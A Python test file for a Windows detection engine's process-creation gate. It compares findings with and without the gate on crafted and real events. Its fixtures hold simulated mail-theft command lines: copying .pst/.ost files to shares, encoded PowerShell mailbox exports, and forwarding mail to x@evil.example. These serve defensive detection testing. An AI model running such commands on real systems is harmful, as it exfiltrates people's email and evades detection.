"""The process-creation gate (app/process_gate.py) against the reader without it: the same
findings, output fields and job-inspector messages on every benchmark mix, every rule test
event in every shape, the 23,371 real Windows events and process creations built to slip past
a word check (letters that fold onto ASCII, encoded commands, cmdlets, upper case, CIM and
classic names, XML-only events, values past the length cut); the clauses it derives from rule
documents; and, counted in steps, that it spares the work it is for.
"""

import gzip
import json
import os
import base64

import pytest

from app.engine import Engine
from app.finding import output_fields
from app.normalise.windows_endpoint import GATED_PROCESS_FIELDS, normalise_windows_endpoint
from app.process_gate import necessary_clauses, process_create_gate
from app.values import MAX_VALUE_CHARS
from tests.conftest import REPO, SHARED_DATASETS
from tests.test_optimisations_differential import MIXES, mix_records, rule_test_records
from tools.bench import make_records
from tools.step_count import count_steps


@pytest.fixture(scope="module")
def ungated():
    """The engine as shipped, with the gate taken out: every process creation read whole."""
    engine = Engine.load(REPO)
    engine.context.process_create_gate = None
    return engine


@pytest.fixture(scope="module")
def gated():
    engine = Engine.load(REPO)
    assert engine.context.process_create_gate is not None, "the shipped rules should give a gate"
    return engine


def _outcome(engine, record):
    findings = engine.findings(dict(record))
    return [finding.as_dict() for finding in findings], output_fields(findings, record)


def assert_same_outcomes(gated, ungated, records):
    fired = 0
    for record in records:
        with_gate = _outcome(gated, record)
        assert with_gate == _outcome(ungated, record), record
        fired += bool(with_gate[0])
    assert gated.problems.counts() == ungated.problems.counts()
    return fired


def _encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _sysmon(command_line, image=r"C:\Windows\System32\cmd.exe", parent=r"C:\Windows\explorer.exe", **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
              "EventCode": "1", "Image": image, "CommandLine": command_line, "ParentImage": parent,
              "User": "CONTOSO\\bob", "Computer": "ws-01.contoso.com", "_time": "1795000000"}
    record.update(more)
    return record


# Process creations written to slip past a word check, each with the rule it fires (or None);
# the differential test requires the gate to agree either way, the next test that they fire.
COMMAND_LINE, AUTOMATION, SCRIPT_HOST = ("t1114_001_mail_file_command_line", "t1114_001_outlook_automation_script",
                                         "t1114_001_outlook_started_by_script_host")
AWKWARD_CASES = [
    (_sysmon(r'robocopy "C:\Users\bob\AppData\Local\Microsoft\Outlook" \\files\drop bob.ost'), COMMAND_LINE),
    (_sysmon(r"copy C:\mail\archive.PST \\files\drop"), COMMAND_LINE),                  # upper case
    (_sysmon("copy C:\\mail\\archive.p\u017ft \\\\files\\drop"), COMMAND_LINE),   # long s: (?i) reads it as s
    (_sysmon("copy C:\\mail\\archive.\u212aost x"), None),                            # Kelvin sign: no word
    (_sysmon("copy C:\\mail\\archive.\u0130st x"), None),                            # dotted capital I
    # The rule reads the command line, not the decoded script: no finding, with or without the gate.
    (_sysmon("powershell -enc " + _encoded("Copy-Item C:\\mail\\a.pst \\\\files\\drop")), None),
    (_sysmon("powershell.exe -EncodedCommand " + _encoded("$o = New-Object -ComObject Outlook.Application")),
     AUTOMATION),
    (_sysmon("powershell /e " + _encoded("New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\x.pst")),
     "t1114_002_mailbox_export_request"),
    (_sysmon("powershell -c \"New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\share\\bob\""),
     "t1114_002_mailbox_export_request"),
    (_sysmon("powershell -c \"Set-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    (_sysmon("powershell -c \"sEt-MaIlBoX bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    # The cmdlet regex reads `\u017f` as s, but no rule is indexed on what it then names.
    (_sysmon("powershell -c \"\u017fet-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), None),
    (_sysmon("cscript //nologo mail.vbs Outlook.Application"), AUTOMATION),
    (_sysmon(r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"',
             image=r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
             parent=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"), SCRIPT_HOST),
    (_sysmon("OUTLOOK.EXE /recycle", image=r"C:\Office\OUTLOOK.EXE", parent=r"C:\Windows\explorer.exe"), None),
    (_sysmon("svc.exe a -tzip out.zip C:\\mail\\*.ost", image=r"C:\Temp\svc.exe", OriginalFileName="7z.exe"),
     COMMAND_LINE),
    (_sysmon("x " * (MAX_VALUE_CHARS // 2) + "C:\\mail\\late.pst"), None),   # the word past the length cut
    (_sysmon("notepad.exe C:\\Users\\bob\\notes.txt"), None),
    (_sysmon("", image="", parent="", process_name="outlook.exe", parent_process_name="wscript.exe"), SCRIPT_HOST),
    ({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\Windows\System32\esentutl.exe",
      "CommandLine": r"esentutl.exe /y C:\Users\bob\AppData\Local\Comms\Unistore\data\3\x.dat /d y",
      "ParentProcessName": r"C:\Windows\System32\cmd.exe", "SubjectUserName": "bob", "SubjectDomainName": "CONTOSO"},
     COMMAND_LINE),
    ({"Processes.process_path": r"C:\Windows\System32\robocopy.exe",
      "Processes.process": r"robocopy C:\Users\bob\Documents\Outlook Files\ E:\ *.pst",
      "Processes.parent_process_path": r"C:\Windows\System32\cmd.exe", "Processes.dest": "ws-02"}, COMMAND_LINE),
    # XML only (Fast mode): html.unescape turns &#46; into the dot of .pst.
    ({"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      "_raw": "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
              "<Computer>ws-3</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
              "<Data Name='CommandLine'>cmd /c copy C:\\mail\\a&#46;pst \\\\files\\x</Data></EventData></Event>"},
     COMMAND_LINE),
    ({"sourcetype": "WinEventLog", "source": "WinEventLog:Security",
      "_raw": "12/01/2026 10:00:00 AM\nLogName=Security\nEventCode=4688\nComputerName=ws-4\nMessage=A new process "
              "has been created.\n\nNew Process Information:\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
              "\tProcess Command Line:\tcmd /c copy C:\\mail\\b.ost \\\\files\\x\n"
              "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"}, COMMAND_LINE),
]
AWKWARD_PROCESS_CREATIONS = [record for record, _ in AWKWARD_CASES]


@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests", "awkward"))
def test_gate_gives_the_findings_of_the_whole_reader(gated, ungated, source):
    records = {"light": lambda: make_records(7, 3000, 0.05), "rule_tests": rule_test_records,
               "awkward": lambda: AWKWARD_PROCESS_CREATIONS}.get(source, lambda: mix_records(source))()
    fired = assert_same_outcomes(gated, ungated, records)
    if source in ("light", "rule_tests", "awkward"):
        assert fired, "the records hold process creations that fire: the comparison is not vacuous"


def test_gate_gives_the_findings_of_the_whole_reader_on_real_windows_events(gated, ungated):
    folder = os.path.join(SHARED_DATASETS, "Yamato-Security__hayabusa-sample-evtx")
    records = []
    for name in ("evtx_pool.jsonl.gz", "near_miss_cases.jsonl.gz"):
        path = os.path.join(folder, name)
        if os.path.exists(path):
            with gzip.open(path, "rt", encoding="utf-8") as handle:
                records.extend(json.loads(line)["event"] for line in handle if line.strip())
    if not records:
        pytest.skip("the hayabusa sample events are not in ../shared/datasets")
    assert_same_outcomes(gated, ungated, records)


def test_awkward_process_creations_fire_where_the_rules_say(gated):
    """Not only agreement: the cases the gate must let through do fire."""
    for record, rule_id in AWKWARD_CASES:
        fired = [finding.as_dict()["rule"] for finding in gated.findings(dict(record))]
        assert fired == ([rule_id] if rule_id else []), record


def _rules(*specs):
    class FakeRule:
        def __init__(self, spec):
            self.match_spec = spec
    return [FakeRule(spec) for spec in specs]


def test_clauses_follow_all_any_and_not():
    fields = GATED_PROCESS_FIELDS
    assert necessary_clauses({"all": [
        {"field": "operation", "equals": "ProcessCreate"},
        {"field": "extra.process_name", "equals": "Outlook.exe"},
        {"field": "extra.parent_process_name", "in": ["cmd.exe", "wscript.exe"]}]}, fields) == [
        frozenset({"outlook.exe"}), frozenset({"cmd.exe", "wscript.exe"})]
    assert necessary_clauses({"any": [
        {"field": "extra.command_line", "matches": r"(?i)\.(pst|ost)\b"},
        {"all": [{"field": "text", "contains_any": ["Outlook.Application", "GetNamespace"]},
                 {"field": "extra.process_name", "endswith_any": [".exe"]}]}]}, fields) == [
        frozenset({".pst", ".ost", ".exe"})]
    # An alternative with no words, an absence, a test of another field: no clause.
    assert necessary_clauses({"any": [{"field": "text", "contains_any": ["x.pst"]},
                                      {"field": "extra.command_line", "nonempty": True}]}, fields) == []
    assert necessary_clauses({"not": {"field": "text", "contains_any": ["x"]}}, fields) == []
    assert necessary_clauses({"field": "actor", "equals": "bob"}, fields) == []
    assert necessary_clauses({"field": "extra.command_line", "matches": "(?i).*"}, fields) == []
    # Words the joined facts cannot show as they are: non-ASCII, a line end, an empty operand.
    assert necessary_clauses({"field": "text", "contains_any": ["caf\u00e9"]}, fields) == []
    assert necessary_clauses({"field": "text", "contains_any": ["a\nb"]}, fields) == []
    assert necessary_clauses({"field": "extra.process_name", "in": ["", "cmd.exe"]}, fields) == []


def test_one_rule_without_words_turns_the_gate_off():
    worded = {"field": "extra.command_line", "contains_any": [".pst"]}
    assert process_create_gate(_rules(worded), ["Set-Mailbox"], GATED_PROCESS_FIELDS) is not None
    assert process_create_gate(_rules(worded, {"field": "extra.command_line", "nonempty": True}), ["Set-Mailbox"],
                               GATED_PROCESS_FIELDS) is None


def test_gate_answers_from_words_cmdlets_and_folding_letters():
    gate = process_create_gate(_rules({"all": [{"field": "extra.process_name", "equals": "outlook.exe"},
                                                {"field": "extra.parent_process_name", "in": ["cmd.exe"]}]},
                                      {"field": "text", "matches": r"(?i)\.pst"}),
                               ["New-MailboxExportRequest"], GATED_PROCESS_FIELDS)
    assert not gate(("notepad x.txt", "c:\\notepad.exe", "notepad.exe", "", "", ""))
    assert not gate(("outlook.exe", "c:\\outlook.exe", "outlook.exe", "c:\\explorer.exe", "explorer.exe", ""))
    assert gate(("OUTLOOK.EXE", "C:\\OUTLOOK.EXE", "OUTLOOK.EXE", "C:\\cmd.exe", "CMD.EXE", ""))
    assert gate(("copy a.PST b", "", "", "", "", ""))
    assert gate(("copy a.p\u017ft b", "", "", "", "", ""))        # the regex matches it; lower() does not
    assert gate(("new-mailboxexportREQUEST -Mailbox x", "", "", "", "", ""))
    assert not gate(("copy a.p st b", "c:\\caf\u00e9.exe", "", "", "", ""))   # non-ASCII alone changes nothing
    verbless = process_create_gate(_rules({"field": "text", "contains_any": [".pst"]}), ["Search"], GATED_PROCESS_FIELDS)
    assert verbless(("search x", "", "", "", "", "")) and not verbless(("find x", "", "", "", "", ""))


def test_shipped_rules_give_the_gate_their_words(gated):
    rules = gated.context.process_create_gate.rules
    words = {word for rule in rules for clause in rule for word in clause}
    assert {".pst", ".ost", "outlook.exe", "outlook.application"} <= words
    assert len(rules) == len([rule for rule in gated._by_operation["processcreate"]])


def _process_creations(records):
    return [record for record in records if record.get("EventCode") in ("1", "4688")]


@pytest.mark.parametrize("source", ["light", "endpoint"])
def test_gate_spares_the_work_on_process_creations_without_findings(gated, ungated, source):
    """Counted in steps (lines run in app/), not timed: nearly every process creation of the mix
    is answered by the gate, and the engine's work on them falls by more than a quarter (about
    a third when measured: what is left is recognising the event and reading its facts, which
    the gate needs; in seconds the saving is larger, the gate's searches being C calls)."""
    records = _process_creations(make_records(3, 400) if source == "light" else mix_records(source, 600))
    assert len(records) > 100
    passed = []
    gate = gated.context.process_create_gate

    def counting(facts):
        passed.append(gate(facts))
        return passed[-1]
    gated.context.process_create_gate = counting
    try:
        gated_steps = sum(count_steps(gated.findings, dict(record))[1] for record in records)
    finally:
        gated.context.process_create_gate = gate
    ungated_steps = sum(count_steps(ungated.findings, dict(record))[1] for record in records)
    assert len(passed) == len(records)
    assert sum(passed) < 0.1 * len(passed)
    assert gated_steps < 0.75 * ungated_steps, (gated_steps, ungated_steps)


def test_reader_without_the_engine_reads_every_process_creation():
    """A caller without an engine's context (no gate) gets the event as before."""
    from app.normalise import NormaliseContext
    context = NormaliseContext(frozenset(), None, {}, None)
    (event,) = normalise_windows_endpoint(_sysmon("notepad.exe x.txt", image=r"C:\Windows\notepad.exe"), context)
    assert event.extra["process_name"] == "notepad.exe"
